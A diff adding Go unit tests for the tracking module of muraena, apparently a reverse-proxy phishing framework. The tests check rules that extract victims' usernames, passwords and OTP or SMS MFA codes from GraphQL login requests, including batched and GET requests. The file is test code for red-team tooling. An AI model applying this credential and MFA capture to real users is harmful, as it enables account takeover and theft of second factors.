@@ -0,0 +1,75 @@
+package tracking
+
+import (
+	"net/http/httptest"
+	"net/url"
+	"reflect"
+	"testing"
+
+	"github.com/muraenateam/muraena/session"
+)
+
+var graphQLRules = []session.GraphQLSecret{
+	{Label: "Username", Operation: "Login", Variable: "input.email"},
+	{Label: "Password", Operation: "Login", Variable: "input.credentials.0.password"},
+	{Label: "MFA", Operation: "^Verify(Otp|Sms)$", Variable: "code"},
+}
+
+func TestGraphQLSecrets(t *testing.T) {
+	body := `{"operationName":"Login","query":"mutation Login($input: LoginInput!) { login(input: $input) { id } }",
+		"variables":{"input":{"email":"victim@target.com","credentials":[{"password":"s3cr3t"}]}}}`
+	request := httptest.NewRequest("POST", "/graphql", nil)
+
+	secrets := graphQLSecrets(graphQLRules, graphQLOperations(body, request))
+	expected := []graphQLSecret{{"Username", "victim@target.com"}, {"Password", "s3cr3t"}}
+	if !reflect.DeepEqual(secrets, expected) {
+		t.Errorf("Expected %v, got %v", expected, secrets)
+	}
+}
+
+func TestGraphQLSecrets_Batch(t *testing.T) {
+	// The operation name is read from the query, and the numeric codes are kept as sent
+	body := `[{"query":"query Viewer { viewer { id } }"},
+		{"query":"# MFA\nmutation VerifyOtp($code: Int!) { verify(code: $code) }","variables":{"code":012345}},
+		{"query":"mutation VerifySms($code: Int!) { verify(code: $code) }","variables":{"code":123456}}]`
+	request := httptest.NewRequest("POST", "/graphql", nil)
+
+	// Invalid JSON, with the leading zero
+	if operations := graphQLOperations(body, request); operations != nil {
+		t.Errorf("Expected no operations from invalid JSON, got %v", operations)
+	}
+
+	body = `[{"query":"query Viewer { viewer { id } }"},
+		{"query":"# MFA\nmutation VerifyOtp($code: String!) { verify(code: $code) }","variables":{"code":"012345"}},
+		{"query":"mutation VerifySms($code: Int!) { verify(code: $code) }","variables":{"code":123456}}]`
+	secrets := graphQLSecrets(graphQLRules, graphQLOperations(body, request))
+	expected := []graphQLSecret{{"MFA", "012345"}, {"MFA", "123456"}}
+	if !reflect.DeepEqual(secrets, expected) {
+		t.Errorf("Expected %v, got %v", expected, secrets)
+	}
+}
+
+func TestGraphQLSecrets_Get(t *testing.T) {
+	query := url.Values{
+		"operationName": {"Login"},
+		"query":         {"mutation Login($input: LoginInput!) { login(input: $input) { id } }"},
+		"variables":     {`{"input":{"email":"victim@target.com"}}`},
+	}
+	request := httptest.NewRequest("GET", "/graphql?"+query.Encode(), nil)
+
+	secrets := graphQLSecrets(graphQLRules, graphQLOperations("", request))
+	expected := []graphQLSecret{{"Username", "victim@target.com"}}
+	if !reflect.DeepEqual(secrets, expected) {
+		t.Errorf("Expected %v, got %v", expected, secrets)
+	}
+
+	// Other operations, and objects instead of scalars, are ignored
+	request = httptest.NewRequest("POST", "/graphql", nil)
+	body := `{"operationName":"Signup","variables":{"input":{"email":"someone@target.com"}}}`
+	if secrets := graphQLSecrets(graphQLRules, graphQLOperations(body, request)); len(secrets) != 0 {
+		t.Errorf("Expected no secrets, got %v", secrets)
+	}
+	if _, ok := graphQLVariable(map[string]interface{}{"input": map[string]interface{}{}}, "input"); ok {
+		t.Error("Expected no scalar value for an object")
+	}
+}